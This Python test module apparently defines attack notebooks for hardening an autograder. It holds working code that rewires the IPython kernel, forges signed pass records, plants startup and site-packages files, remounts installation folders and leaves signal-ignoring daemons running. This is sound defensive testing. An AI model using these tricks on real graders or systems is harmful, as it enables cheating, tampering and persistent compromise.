"""The attack cohort: one student notebook per trick, with what the grader must give it.

Every attack starts from the tiny course's release (``00_tiny``, 2 + 3 + 1 points):

- ``untouched``: the release as handed out (the answers raise NotImplementedError);
- ``junk``: wrong answers that do not raise (``snippets.JUNK``): the tests fail honestly,
  but they get as far as calling the checks, which many tricks need;
- ``solved``: the reference solution (full marks when nothing interferes).

and adds cells: ``top`` (before everything, even the given imports), ``before`` (right
after the given imports: before every answer and test), ``after`` (at the very end),
and ``answers`` (replacing answer cells). ``expect`` is the CONTRACT the grader being
written must meet, not what today's grader does:

- a trick without a real solution scores exactly 0; added to a solved notebook it
  costs nothing (full marks) unless it breaks the student's own code;
- ``flags`` must all be present; ``may`` lists flags that are acceptable on top of them
  where the contract leaves the choice open (a comment says why). Otherwise exact.

``targets`` are files an attack tries to create or change outside its scratch folder
(checked before and after grading), ``markers`` strings in the argv or name of the
processes it starts (none may be alive after grading), ``leaks`` says that its feedback
is where stolen secrets would show up.
"""

from __future__ import annotations

import copy
import dataclasses
from pathlib import Path

import nbformat

from convtrain.instructor.course import nbgrader_meta

from . import snippets as s

LESSON = "00_tiny"
FULL = 6.0


@dataclasses.dataclass(frozen=True)
class Expect:
    score: float
    flags: frozenset = frozenset()
    may: frozenset = frozenset()

    def admits(self, flags: set[str]) -> bool:
        return self.flags <= flags <= (self.flags | self.may)

    def describe(self) -> str:
        text = ";".join(sorted(self.flags)) or "(none)"
        return text + (f" [+ maybe {';'.join(sorted(self.may))}]" if self.may else "")


def expect(score, flags="", may=""):
    return Expect(float(score), frozenset(f for f in flags.split(";") if f),
                  frozenset(f for f in may.split(";") if f))


@dataclasses.dataclass(frozen=True)
class Attack:
    name: str
    klass: int
    summary: str
    base: str
    expect: Expect
    top: tuple[str, ...] = ()
    before: tuple[str, ...] = ()
    after: tuple[str, ...] = ()
    answers: tuple[tuple[str, str], ...] = ()
    targets: tuple[str, ...] = ()  # absolute paths with %%HOME%%, %%COURSE%%, ... placeholders
    markers: tuple[str, ...] = ()
    leaks: bool = False
    hook: str | None = None  # name of a function in this module that edits the notebook


CLASSES = {1: "kernel rewiring", 2: "persistence outside scratch", 3: "processes that outlive the kernel",
           4: "reading other paths", 5: "lying objects", 6: "floods of output", 7: "honest oddities"}

ATTACKS: list[Attack] = []


def attack(name, klass, summary, base, expected, **fields):
    for key in ("top", "before", "after", "targets", "markers"):
        if isinstance(fields.get(key), str):
            fields[key] = (fields[key],)
        elif key in fields:
            fields[key] = tuple(fields[key])
    if "answers" in fields:
        fields["answers"] = tuple(fields["answers"].items())
    ATTACKS.append(Attack(name, klass, summary, base, expected, **fields))


# ==================================================================================== 1
# Kernel rewiring. The contract: 0 points, and `tamper` (student code changed what the
# tests rely on, or stopped a test from running or reporting).

TAMPER = expect(0, "tamper")
# Rewiring of IPython itself (transformers that find nothing to rewrite, exception
# handlers, showtraceback, excepthook, displayhook, tracers cleared before the tests): a
# grader whose trusted code does not go through IPython is not fooled and need not flag
# it; one that does go through it must flag it. Score 0 either way.
INERT_OR_TAMPER = expect(0, "", "tamper")
# Hooks nothing the tests use (sys.excepthook, sys.displayhook: IPython uses its own):
# harmless to the tests, but a grader may fairly call them tampering.
MAYBE_TAMPER = expect(0, "", "tamper")
# Attacks aimed at a grader whose trusted cells carry their text, nonces or a callable
# agent object into the namespace: against sealed cells and an audit-hook agent they
# find nothing to rewrite, forge or swap, so the genuine tests run and fail. Score 0;
# the grader saw no effect and need not flag it.
INERT_AGAINST_SEALED = expect(0, "", "tamper")
# The kernel exits in the middle of the tests: kernel_died; whether the grader also names
# it tampering (a test was stopped from reporting) is open.
DIED = expect(0, "kernel_died", "tamper")

attack("k01_input_transformer_post", 1, "input_transformers_post: every grader cell becomes print(<the nonces in it>)",
       "untouched", INERT_AGAINST_SEALED, before="import re\n" + s.NONCE_RE + '''
def _only_the_nonce(lines):
    text = "".join(lines)
    if "__convtrain" not in text and not _PASS.search(text):
        return lines
    return [f"print({nonce!r}, flush=True)\\n" for nonce in _PASS.findall(text)] or ["pass\\n"]

get_ipython().input_transformers_post.append(_only_the_nonce)
''')

attack("k02_cleanup_transforms", 1, "input_transformer_manager.cleanup_transforms: check_* lines and calls into the grader commented out",
       "untouched", INERT_AGAINST_SEALED, before='''
def _no_checks(lines):
    return ["pass  # " + line if line.lstrip().startswith("check_") or line.lstrip().startswith("__convtrain")
            and "print(" not in line else line for line in lines]

get_ipython().input_transformer_manager.cleanup_transforms.insert(0, _no_checks)
''')

attack("k03_line_transforms", 1, "input_transformer_manager.line_transforms: each check_* line wrapped in try/except",
       "untouched", INERT_OR_TAMPER, before='''
def _forgiving(lines):
    out = []
    for line in lines:
        if line.startswith("check_"):
            out += ["try: " + line.rstrip("\\n") + "\\n", "except BaseException: pass\\n"]
        else:
            out.append(line)
    return out

get_ipython().input_transformer_manager.line_transforms.append(_forgiving)
''')

attack("k04_ast_transformer", 1, "ast_transformers: every statement wrapped in try/except BaseException",
       "untouched", INERT_OR_TAMPER, before='''
import ast

class _Forgive(ast.NodeTransformer):
    def visit_Module(self, node):
        handler = ast.ExceptHandler(type=ast.Name("BaseException", ast.Load()), name=None, body=[ast.Pass()])
        node.body = [ast.Try(body=[statement], handlers=[handler], orelse=[], finalbody=[])
                     for statement in node.body]
        return ast.fix_missing_locations(node)

get_ipython().ast_transformers.append(_Forgive())
''')

attack("k05_pre_run_cell_send", 1, "pre_run_cell prints the nonce from info.raw_cell; Session.send drops 'error' messages",
       "untouched", INERT_OR_TAMPER, before="import re\n" + s.NONCE_RE + '''
_ip = get_ipython()

def _early(info):
    for found in _PASS.findall(info.raw_cell or ""):
        print(found, flush=True)

_ip.events.register("pre_run_cell", _early)

def _without_errors(session):
    send = session.send
    def quiet_send(stream, msg_or_type, *args, **kwargs):
        kind = msg_or_type if isinstance(msg_or_type, str) else msg_or_type.get("header", {}).get("msg_type")
        return None if kind == "error" else send(stream, msg_or_type, *args, **kwargs)
    session.send = quiet_send

for _session in {id(x): x for x in (_ip.kernel.session, _ip.displayhook.session, _ip.display_pub.session)}.values():
    _without_errors(_session)
''')

attack("k06_post_run_cell_clear", 1, "post_run_cell: clear_output() erases a grader cell's output (its error, or its report), then prints the nonce",
       "untouched", INERT_AGAINST_SEALED, before="import re\n" + s.NONCE_RE + '''
from IPython.display import clear_output

def _after(result):
    raw = result.info.raw_cell or ""
    found = _PASS.findall(raw)
    if (found and result.error_in_exec is not None) or "__convtrain" in raw:
        clear_output()
        for nonce in found:
            print(nonce, flush=True)

get_ipython().events.register("post_run_cell", _after)
''')

attack("k07_set_custom_exc", 1, "set_custom_exc swallows every exception and prints the nonce found in the runner's raw_cell",
       "untouched", INERT_OR_TAMPER, before="import re, sys\n" + s.NONCE_RE + '''
def _cell_text():
    frame = sys._getframe(1)
    while frame is not None:
        if isinstance(frame.f_locals.get("raw_cell"), str):
            return frame.f_locals["raw_cell"]
        frame = frame.f_back
    return ""

def _swallow(shell, etype, value, tb, tb_offset=None):
    for nonce in _PASS.findall(_cell_text()):
        print(nonce, flush=True)

get_ipython().set_custom_exc((BaseException,), _swallow)
''')

SHOWTRACEBACK = "import re\n" + s.NONCE_RE + '''
_ip = get_ipython()

def _fake_showtraceback(*args, **kwargs):
    code = _ip.kernel.get_parent("shell").get("content", {}).get("code", "")
    for nonce in _PASS.findall(code):
        print(nonce, flush=True)
'''

attack("k08_showtraceback", 1, "showtraceback/_showtraceback replaced (instance and class); the fake prints the request's nonce",
       "untouched", INERT_OR_TAMPER, before=SHOWTRACEBACK + '''
_ip.showtraceback = _ip._showtraceback = _fake_showtraceback
type(_ip).showtraceback = _fake_showtraceback
''')

attack("k09_showtraceback_from_answers", 1, "the answers themselves re-install a fake showtraceback during each test",
       "untouched", INERT_OR_TAMPER, before=SHOWTRACEBACK + '''
def _rewire():
    _ip.showtraceback = _fake_showtraceback
''', answers={"double": "def double(x):\n    _rewire()\n    return x\n",
              "count": "def count_positive(values):\n    _rewire()\n    return 0\n",
              "mean": "def noisy_mean(values):\n    _rewire()\n    return 0.0\n"})

attack("k10_showtraceback_thread", 1, "a background thread keeps re-installing the fake showtraceback (races the guard)",
       "junk", INERT_OR_TAMPER, before=SHOWTRACEBACK + '''
import sys, threading, time

def _keep_patched():
    while True:
        if vars(_ip).get("showtraceback") is not _fake_showtraceback:
            _ip.showtraceback = _fake_showtraceback
        time.sleep(0.0001)

sys.setswitchinterval(0.0001)
threading.Thread(target=_keep_patched, daemon=True).start()
''')

attack("k11_settrace", 1, "sys.settrace flips check_*(actual, expected) to expected; sys.gettrace lies so the guard keeps it",
       "junk", INERT_OR_TAMPER, before=s.AGREE + '''
def _tracer(frame, event, arg):
    if event == "call" and frame.f_code in _TARGETS:
        _agree(frame)
    return None

sys.gettrace = lambda: None
sys.settrace(_tracer)
threading.settrace(_tracer)
''')

attack("k12_setprofile", 1, "sys.setprofile does the same from the profiler's call event; sys.getprofile lies",
       "junk", INERT_OR_TAMPER, before=s.AGREE + '''
def _profiler(frame, event, arg):
    if event == "call" and frame.f_code in _TARGETS:
        _agree(frame)

sys.getprofile = lambda: None
sys.setprofile(_profiler)
threading.setprofile(_profiler)
''')

attack("k13_excepthook", 1, "sys.excepthook set to a no-op (a naive attempt: IPython does not use it)",
       "untouched", MAYBE_TAMPER, before='''
import sys
sys.excepthook = lambda *args: None
get_ipython().excepthook = lambda *args: None
''')

attack("k14_stdout_launders_reports", 1, "sys.stdout rewritten so the grader's report lines say nothing was tampered; checks redefined",
       "junk", TAMPER, before='''
import sys

class _Launder:
    def __init__(self, inner):
        self.inner = inner
    def write(self, text):
        lines = text.split("\\n")
        for index, line in enumerate(lines):
            if line.startswith("@@convtrain-guard@@ {"):
                lines[index] = '@@convtrain-guard@@ {"tamper": [], "forbidden": 0, "network": 0}'
            elif line.startswith("@@convtrain-agent@@ {"):
                lines[index] = line.replace('"tamper": [', '"tamper": [], "was": [')
        return self.inner.write("\\n".join(lines))
    def __getattr__(self, name):
        return getattr(self.inner, name)

sys.stdout = _Launder(sys.stdout)

def check_close(*args, **kwargs):
    return None

def check_equal(*args, **kwargs):
    return None
''')

attack("k15_displayhook", 1, "sys.displayhook replaced (a naive attempt: IPython swaps its own in)",
       "untouched", MAYBE_TAMPER, before='''
import sys
sys.displayhook = lambda value: None
''')

attack("k16_builtins", 1, "builtins.bool (always True inside convtrain.checks), AssertionError and print replaced",
       "junk", TAMPER, before='''
import builtins, sys
_real_bool, _real_print = bool, print

class _AgreeableMeta(type):
    def __instancecheck__(cls, obj):
        return isinstance(obj, _real_bool)
    def __call__(cls, *args):
        if sys._getframe(1).f_globals.get("__name__") == "convtrain.checks":
            return True
        return _real_bool(*args)

class _Bool(metaclass=_AgreeableMeta):
    pass

builtins.bool = _Bool
builtins.AssertionError = type("AssertionError", (Warning,), {})
builtins.print = lambda *args, **kwargs: _real_print(*args, **kwargs)
''')

attack("k17_checks_globals_shadow", 1, "a NEW global `bool` in convtrain.checks (not in the guard's snapshot) makes check_close pass",
       "junk", TAMPER, before='''
import builtins
import convtrain.checks as _checks
_real_bool = builtins.bool

class _AgreeableMeta(type):
    def __instancecheck__(cls, obj):
        return isinstance(obj, _real_bool)
    def __call__(cls, *args):
        return True

class _Bool(metaclass=_AgreeableMeta):
    __bool__ = staticmethod(lambda value: True)

_checks.bool = _Bool
''')

attack("k18_sys_modules_swap", 1, "sys.modules['convtrain.checks'] (and convtrain.checks) swapped for a fake before the imports run",
       "junk", TAMPER, top='''
import sys, types
import convtrain
_fake = types.ModuleType("convtrain.checks")
_fake.check_close = _fake.check_equal = lambda *args, **kwargs: None
_fake.__all__ = ["check_close", "check_equal"]
sys.modules["convtrain.checks"] = _fake
convtrain.checks = _fake
''')

attack("k19_redefine_helpers", 1, "check_close/check_equal redefined in the notebook, VALUES changed",
       "junk", TAMPER, before='''
def check_close(actual, expected, **kwargs):
    return None

def check_equal(actual, expected, **kwargs):
    return None

VALUES = [1.0, 1.0, -5.0]
''')

attack("k20_code_object_swap", 1, "check_close.__code__ / check_equal.__code__ replaced by no-ops",
       "junk", TAMPER, before='''
import convtrain.checks as _checks
_checks.check_close.__code__ = (lambda actual, expected, *, atol=1e-6, rtol=1e-5, name="", hint="": None).__code__
_checks.check_equal.__code__ = (lambda actual, expected, *, name="", hint="": None).__code__
''')

attack("k21_torch_numpy_patch", 1, "torch.isclose/allclose, Tensor.all, numpy.allclose patched to agree",
       "junk", TAMPER, before='''
import numpy as np
import torch
_ones = torch.ones
torch.isclose = lambda a, b, **kwargs: _ones(torch.broadcast_shapes(a.shape, b.shape), dtype=torch.bool)
torch.allclose = lambda *args, **kwargs: True
torch.Tensor.all = lambda self, *args, **kwargs: torch.tensor(True)
np.allclose = lambda *args, **kwargs: True
''')

NO_CHECKS = '''
def check_close(*args, **kwargs):
    return None

def check_equal(*args, **kwargs):
    return None
'''

# The grader's own objects in the kernel: anything named __convtrain* in the namespace
# (the old `__convtrain_guard__`, today's `__convtrain_agent__`), their methods and the
# closures behind them, which `__closure__`/`cell_contents` reach without any audit event.
INJECTED = """
def _injected():
    return {name: value for name, value in globals().items() if name.startswith("__convtrain")}

def _functions(obj):
    for owner in (obj, type(obj)):
        for attribute in dir(owner):
            if not attribute.startswith("__"):
                value = getattr(owner, attribute, None)
                value = getattr(value, "__func__", value)
                if hasattr(value, "__code__"):
                    yield value

def _closure(function):
    return dict(zip(function.__code__.co_freevars, function.__closure__ or ()))
"""

attack("k22_fake_injected_objects", 1, "every __convtrain* object in the namespace replaced by one whose methods do nothing",
       "junk", INERT_AGAINST_SEALED, before=INJECTED + """
class _Nothing:
    def __getattr__(self, name):
        return lambda *args, **kwargs: {} if name == "names" else None

for _name in _injected():
    globals()[_name] = _Nothing()
""" + NO_CHECKS)

attack("k23_restore_cell_swap", 1, "closure cells named restore* of the injected objects' methods swapped for no-ops; checks redefined",
       "junk", TAMPER, before=INJECTED + """
def _nothing(*args, **kwargs):
    return []

_seen = set()
_todo = [f for obj in _injected().values() for f in _functions(obj)]
while _todo:
    _function = _todo.pop()
    if id(_function) in _seen:
        continue
    _seen.add(id(_function))
    for _freevar, _cell in _closure(_function).items():
        _value = _cell.cell_contents
        if _freevar.startswith("restore") and callable(_value):
            _cell.cell_contents = _nothing
        elif hasattr(_value, "__code__"):
            _todo.append(_value)
""" + NO_CHECKS)

attack("k24_agent_key_forgery", 1, "the signing key read from the agent's run.__closure__; a fake agent signs a pass for every test",
       "untouched", INERT_AGAINST_SEALED, before=INJECTED + """
from convtrain.instructor.grading.kernel_agent import open_token, sign
_name, _real = next((n, v) for n, v in _injected().items() if hasattr(v, "run"))
_cells = {k: c.cell_contents for k, c in _closure(_real.run).items()}
_key, _mark = _cells["key"], _cells["mark"]

class _Forger:
    def run(self, token):
        payload = open_token(_key, token)
        if payload["kind"] != "test":
            return _real.run(token)
        record = {"region": payload["region"], "nonce": payload["nonce"], "status": "pass",
                  "tamper": [], "forbidden": 0, "network": 0}
        print("\\n" + _mark + " " + sign(_key, record), flush=True)

globals()[_name] = _Forger()
""")

attack("k25_agent_write_cell_resign", 1, "the agent's captured stdout `write` (a closure cell) swapped for one that re-signs every record as a pass",
       "untouched", INERT_AGAINST_SEALED, before=INJECTED + """
import json
from convtrain.instructor.grading.kernel_agent import sign
_real = next(v for v in _injected().values() if hasattr(v, "run"))
_cells = _closure(_real.run)
_key, _mark, _write = (_cells[k].cell_contents for k in ("key", "mark", "write"))

def _resign(text):
    lines = text.split("\\n")
    for index, line in enumerate(lines):
        if line.startswith(_mark + " "):
            record = json.loads(line[len(_mark) + 1:].rpartition(" ")[0])
            record.update(status="pass", tamper=[], forbidden=0, network=0)
            record.pop("error", None)
            lines[index] = _mark + " " + sign(_key, record)
    return _write("\\n".join(lines))

_cells["write"].cell_contents = _resign
""")

attack("k30_agent_state_gc_tracer", 1, "the agent's state dict found with gc (audit hook switched off), then the answers set a tracer that flips the next check's arguments and removes itself",
       "untouched", TAMPER, before=s.AGREE + """
import gc

class _Forgetful(set):
    def add(self, item):
        pass

for _obj in gc.get_objects():
    if isinstance(_obj, dict) and {"tamper", "forbidden", "network", "bindings", "busy"} <= set(_obj):
        _obj["busy"] = True
        _obj["tamper"] = _Forgetful()

def _tracer(frame, event, arg):
    if event == "call" and frame.f_code in _TARGETS:
        _agree(frame)
        sys.settrace(None)
    return None
""", answers={"double": "def double(x):\n    sys.settrace(_tracer)\n    return x\n",
              "count": "def count_positive(values):\n    sys.settrace(_tracer)\n    return 0\n",
              "mean": "def noisy_mean(values):\n    sys.settrace(_tracer)\n    return 0.0\n"})

attack("k31_frame_walk_key_session", 1, "the answers walk sys._getframe up to the agent's frame for its key; Session.send re-signs every record as a pass",
       "untouched", INERT_AGAINST_SEALED, before="""
import json, sys
from convtrain.instructor.grading.kernel_agent import sign
_KEY = []

def _steal_key():
    frame = sys._getframe(1)
    while frame is not None and not _KEY:
        if isinstance(frame.f_locals.get("key"), bytes) and "payload" in frame.f_locals:
            _KEY.append(frame.f_locals["key"])
        frame = frame.f_back

def _rewrite(text):
    lines = text.split("\\n")
    for index, line in enumerate(lines):
        if _KEY and line.startswith("@@convtrain-agent@@ "):
            try:
                record = json.loads(line[len("@@convtrain-agent@@ "):].rpartition(" ")[0])
            except ValueError:
                continue
            record.update(status="pass", tamper=[], forbidden=0, network=0)
            record.pop("error", None)
            lines[index] = "@@convtrain-agent@@ " + sign(_KEY[0], record)
    return "\\n".join(lines)

_session = sys.stdout.session
_send = _session.send

def _send_rewritten(stream, msg_or_type, *args, **kwargs):
    if isinstance(msg_or_type, dict) and isinstance(msg_or_type.get("content"), dict) \\
            and "text" in msg_or_type["content"]:
        msg_or_type["content"]["text"] = _rewrite(msg_or_type["content"]["text"])
    return _send(stream, msg_or_type, *args, **kwargs)

_session.send = _send_rewritten
""", answers={"double": "def double(x):\n    _steal_key()\n    return x\n",
              "count": "def count_positive(values):\n    _steal_key()\n    return 0\n",
              "mean": "def noisy_mean(values):\n    _steal_key()\n    return 0.0\n"})

attack("k26_nonce_then_os_exit", 1, "pre_run_cell prints the nonce of the first grader cell, then os._exit(0) before the test can fail",
       "untouched", INERT_AGAINST_SEALED, before="import os, re, time\n" + s.NONCE_RE + '''
def _finish(info):
    found = _PASS.findall(info.raw_cell or "")
    if found or "__convtrain" in (info.raw_cell or ""):
        for nonce in found:
            print(nonce, flush=True)
        time.sleep(0.5)
        os._exit(0)

get_ipython().events.register("pre_run_cell", _finish)
''')

# Forged grader lines, old style (guard nonces and reports) and new style (agent records
# with guessed signatures): 64-bit nonces and HMAC-SHA256 cannot be guessed.
FAKE_MARKERS = '''
import json, random
print("\\n".join(f"@@convtrain-guard@@ pass {random.getrandbits(64):016x}" for _ in range(10000)), flush=True)
print('@@convtrain-guard@@ {"tamper": [], "forbidden": 0, "network": 0}', flush=True)
for _region in ("test_double", "test_count", "test_mean"):
    for _ in range(3000):
        _record = json.dumps({"region": _region, "nonce": f"{random.getrandbits(64):016x}", "status": "pass",
                              "tamper": [], "forbidden": 0, "network": 0}, sort_keys=True)
        print(f"@@convtrain-agent@@ {_record} {random.getrandbits(256):064x}")
print(flush=True)
'''

attack("k27_fake_markers_sys_exit", 1, "after the tests: forged pass lines and agent records with guessed signatures, then sys.exit(0)",
       "junk", MAYBE_TAMPER, after=FAKE_MARKERS + "import sys\nsys.exit(0)\n")

attack("k28_fake_markers_os_exit", 1, "after the tests: the same forged lines, then os._exit(0)",
       "junk", DIED, after=FAKE_MARKERS + "import os, time\ntime.sleep(0.5)\nos._exit(0)\n")

attack("k29_kernel_shell_handler", 1, "kernel.shell_handlers['execute_request'] rewrites each grader request to print its nonces (if any)",
       "untouched", INERT_AGAINST_SEALED, before="import re\n" + s.NONCE_RE + '''
_kernel = get_ipython().kernel
_original = _kernel.shell_handlers["execute_request"]

def _execute_request(stream, ident, parent):
    code = parent.get("content", {}).get("code", "")
    if "__convtrain" in code or _PASS.search(code):
        parent["content"]["code"] = "".join(f"print({nonce!r}, flush=True)\\n" for nonce in _PASS.findall(code)) or "pass"
    return _original(stream, ident, parent)

_kernel.shell_handlers["execute_request"] = _execute_request
''')

# ==================================================================================== 2
# Persistence outside the scratch folder. The contract: 0 points; nothing is written
# outside the kernel's scratch folder. No flag names a write to the home or tmp folders;
# for the course folder (private: `forbidden_access`, unless the sandbox simply hides it)
# and the installation (`tamper`: it is what the tests import) the flag is left open.

COURSE_OR_INSTALL = expect(0, "", "forbidden_access;tamper")

attack("p01_ipython_startup", 2, "an IPython startup file in the grading user's real home (pwd), not $HOME",
       "untouched", expect(0), before=s.PLANT + '''
import pwd
REPORT = [_plant(pwd.getpwuid(os.getuid()).pw_dir + "/.ipython/profile_default/startup/00-cvk%%T%%.py")]
''', targets="%%HOME%%/.ipython/profile_default/startup/00-cvk%%T%%.py")

attack("p02_user_config", 2, "~/.config and the user site-packages (a .pth) of the real home",
       "untouched", expect(0), before=s.PLANT + '''
import pwd, sys
_home = pwd.getpwuid(os.getuid()).pw_dir
_version = f"python{sys.version_info[0]}.{sys.version_info[1]}"
REPORT = [_plant(_home + "/.config/cvk%%T%%/settings.ini"),
          _plant(f"{_home}/.local/lib/{_version}/site-packages/cvk%%T%%.pth")]
''', targets=("%%HOME%%/.config/cvk%%T%%/settings.ini",
              "%%HOME%%/.local/lib/%%PYVER%%/site-packages/cvk%%T%%.pth"))

attack("p03_tmp_folders", 2, "/tmp, /var/tmp and /dev/shm",
       "untouched", expect(0), before=s.PLANT + '''
REPORT = [_plant(f"{folder}/cvk%%T%%-p03.txt") for folder in ("/tmp", "/var/tmp", "/dev/shm")]
''', targets=("/tmp/cvk%%T%%-p03.txt", "/var/tmp/cvk%%T%%-p03.txt", "/dev/shm/cvk%%T%%-p03.txt"))

attack("p04_home_via_proc_root", 2, "a dotfile in ~root, directly and through /proc/<grader>/root",
       "untouched", expect(0), before=s.PLANT + s.GRADER + '''
_outside = _grader_paths()["outside"]
_home = os.path.expanduser("~root")
REPORT = [_plant(_home + "/.cvk%%T%%rc"), _plant(_outside + _home + "/.cvk%%T%%rc-proc")]
''', targets=("%%HOME%%/.cvk%%T%%rc", "%%HOME%%/.cvk%%T%%rc-proc"))

attack("p05_course_folder", 2, "the course: nbgrader_config.py appended, files in course/, solutions/, the release (direct and via /proc/<grader>/root)",
       "untouched", COURSE_OR_INSTALL, before=s.PLANT + s.GRADER + '''
_paths = _grader_paths()
REPORT = []
for _prefix in ("", _paths["outside"]):
    REPORT.append(_plant(_prefix + _paths["course"] + "/nbgrader_config.py"))
    REPORT.append(_plant_sh(_prefix + _paths["course"] + "/nbgrader_config.py"))
    REPORT.append(_plant_sh(_prefix + _paths["course"] + "/cvk%%T%%-p05.txt"))
    REPORT.append(_plant_sh(_prefix + _paths["solutions"] + "/00_tiny/cvk%%T%%-p05.txt"))
    REPORT.append(_plant_sh(_prefix + _paths["release"] + "/00_tiny/cvk%%T%%-p05.txt"))
''', targets=("%%COURSE%%/nbgrader_config.py", "%%COURSE%%/cvk%%T%%-p05.txt",
              "%%ROOT%%/solutions/00_tiny/cvk%%T%%-p05.txt", "%%ROOT%%/workshops/00_tiny/cvk%%T%%-p05.txt"))

attack("p06_site_packages", 2, "a .pth and sitecustomize.py in the venv's and the base Python's site-packages (direct and via /proc/<grader>/root)",
       "untouched", COURSE_OR_INSTALL, before=s.PLANT + s.GRADER + '''
import site, sys
_outside = _grader_paths()["outside"]
_base = f"{sys.base_prefix}/lib/python{sys.version_info[0]}.{sys.version_info[1]}/site-packages"
REPORT = []
for _prefix in ("", _outside):
    for _folder in (site.getsitepackages()[0], _base):
        REPORT.append(_plant(_prefix + _folder + "/cvk%%T%%.pth"))
    REPORT.append(_plant(_prefix + site.getsitepackages()[0] + "/sitecustomize.py"))
''', targets=("%%SITE%%/cvk%%T%%.pth", "%%BASESITE%%/cvk%%T%%.pth", "%%SITE%%/sitecustomize.py"))

# The bytecode cache is the realistic way to change what later students import. The
# attack writes *checked* hash-based .pyc files (PEP 552: validated against the source,
# so harmless if one escaped) that normal imports never write: they are its signature.
attack("p07_package_bytecode", 2, "hash-based .pyc for convtrain.checks and the grader's guard written into the package's __pycache__ (direct and via /proc/<grader>/root)",
       "untouched", COURSE_OR_INSTALL, before=s.GRADER + '''
import importlib.util, py_compile
import convtrain.checks, convtrain.instructor.grading.guard
_outside = _grader_paths()["outside"]
REPORT = []
for _module in (convtrain.checks, convtrain.instructor.grading.guard):
    for _prefix in ("", _outside):
        _target = _prefix + importlib.util.cache_from_source(_module.__file__)
        try:
            py_compile.compile(_module.__file__, cfile=_target, doraise=True,
                               invalidation_mode=py_compile.PycInvalidationMode.CHECKED_HASH)
            REPORT.append(f"wrote {_target}")
        except (OSError, py_compile.PyCompileError) as error:
            REPORT.append(f"{_target}: {type(error).__name__}")
''', targets=("%%PYC:checks%%", "%%PYC:guard%%"))

# The sandbox's root may still hold capabilities (bwrap run as root): remount the
# read-only binds of the installation read-write, then write into them.
attack("p09_remount_installation_rw", 2, "mount -o remount,bind,rw on site-packages and the convtrain package, then a .pth and a .pyc written there",
       "untouched", COURSE_OR_INSTALL, before=s.PLANT + '''
import importlib.util, py_compile, site
import convtrain.instructor.grading.score
_package = os.path.dirname(convtrain.instructor.grading.score.__file__)
REPORT = []
for _folder in (site.getsitepackages()[0], _package):
    _result = subprocess.run(["mount", "-o", "remount,bind,rw", _folder], capture_output=True, text=True)
    REPORT.append(f"mount {_folder}: {_result.returncode} {_result.stderr.strip()[:80]}")
REPORT.append(_plant(site.getsitepackages()[0] + "/cvk%%T%%-p09.pth"))
try:
    py_compile.compile(convtrain.instructor.grading.score.__file__, doraise=True,
                       cfile=importlib.util.cache_from_source(convtrain.instructor.grading.score.__file__),
                       invalidation_mode=py_compile.PycInvalidationMode.CHECKED_HASH)
    REPORT.append("wrote the pyc")
except (OSError, py_compile.PyCompileError) as error:
    REPORT.append(f"pyc: {type(error).__name__}")
''', targets=("%%SITE%%/cvk%%T%%-p09.pth", "%%PYC:score%%"))

attack("p08_solved_with_startup_file", 2, "a solved notebook that also plants files in the real home and /var/tmp",
       "solved", expect(FULL), before=s.PLANT + '''
import pwd
REPORT = [_plant(pwd.getpwuid(os.getuid()).pw_dir + "/.ipython/profile_default/startup/00-cvk%%T%%-solved.py"),
          _plant("/var/tmp/cvk%%T%%-p08.txt")]
''', targets=("%%HOME%%/.ipython/profile_default/startup/00-cvk%%T%%-solved.py", "/var/tmp/cvk%%T%%-p08.txt"))

# ==================================================================================== 3
# Processes that outlive the kernel. The contract: the score is what the notebook earns
# (0 unsolved), no flag names this, and nothing the student started is alive after
# grading (checked by the markers in /proc/<pid>/cmdline and /proc/<pid>/comm).

IGNORE = "import signal\nfor _s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):\n    signal.signal(_s, signal.SIG_IGN)\n"

attack("r01_popen_sleep", 3, "subprocess.Popen(['sleep', '1000.<marker>'])",
       "untouched", expect(0), before='''
import subprocess
_sleeper = subprocess.Popen(["sleep", "1000.%%D%%1"])
''', markers="1000.%%D%%1")

attack("r02_double_fork_daemon", 3, "classic double-fork daemon (setsid, signals ignored, stdio closed), exec'd with a marker argv",
       "untouched", expect(0), before='''
import os, sys
_pid = os.fork()
if _pid == 0:
    try:
        os.setsid()
        if os.fork() == 0:
''' + "\n".join("            " + line for line in IGNORE.splitlines()) + '''
            _null = os.open(os.devnull, os.O_RDWR)
            for _fd in (0, 1, 2):
                os.dup2(_null, _fd)
            os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(1000)", "cvk%%T%%df"])
    finally:
        os._exit(0)
os.waitpid(_pid, 0)
''', markers="cvk%%T%%df")

attack("r03_multiprocessing_worker", 3, "a non-daemon multiprocessing (fork) worker that ignores SIGTERM and sleeps",
       "untouched", expect(0), before=s.PRCTL + '''
import multiprocessing, time

def _linger():
''' + "\n".join("    " + line for line in IGNORE.splitlines()) + '''
    _name("cvk%%T%%mp")
    time.sleep(1000)

_worker = multiprocessing.get_context("fork").Process(target=_linger, daemon=False)
_worker.start()
''', markers="cvk%%T%%mp")

attack("r04_fork_ignores_sigterm", 3, "os.fork() child in the kernel's process group that ignores SIGTERM/SIGHUP/SIGINT",
       "untouched", expect(0), before=s.PRCTL + '''
import os, time
if os.fork() == 0:
    try:
''' + "\n".join("        " + line for line in IGNORE.splitlines()) + '''
        _name("cvk%%T%%fk")
        time.sleep(1000)
    finally:
        os._exit(0)
''', markers="cvk%%T%%fk")

attack("r05_setsid_popen", 3, "Popen(start_new_session=True) of a python that ignores SIGTERM/SIGHUP",
       "untouched", expect(0), before='''
import subprocess, sys
subprocess.Popen([sys.executable, "-c", "import signal, time\\nfor s in (1, 2, 15): signal.signal(s, signal.SIG_IGN)\\ntime.sleep(1000)",
                  "cvk%%T%%ss"], start_new_session=True, stdin=subprocess.DEVNULL,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
''', markers="cvk%%T%%ss")

attack("r06_shell_nohup", 3, "!nohup sleep ... & from an IPython shell escape",
       "untouched", expect(0), before='''
!nohup sleep 1000.%%D%%6 > /dev/null 2>&1 &
''', markers="1000.%%D%%6")

attack("r07_solved_with_sleepers", 3, "a solved notebook that also leaves a sleeper and a setsid process behind",
       "solved", expect(FULL), before='''
import subprocess, sys
subprocess.Popen(["sleep", "1000.%%D%%7"])
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(1000)", "cvk%%T%%s7"], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
''', markers=("1000.%%D%%7", "cvk%%T%%s7"))

# ==================================================================================== 4
# Reading other paths. The contract: 0 points (what was stolen earns nothing), no secret
# in the feedback or grades.csv, other course copies and other students' files unchanged
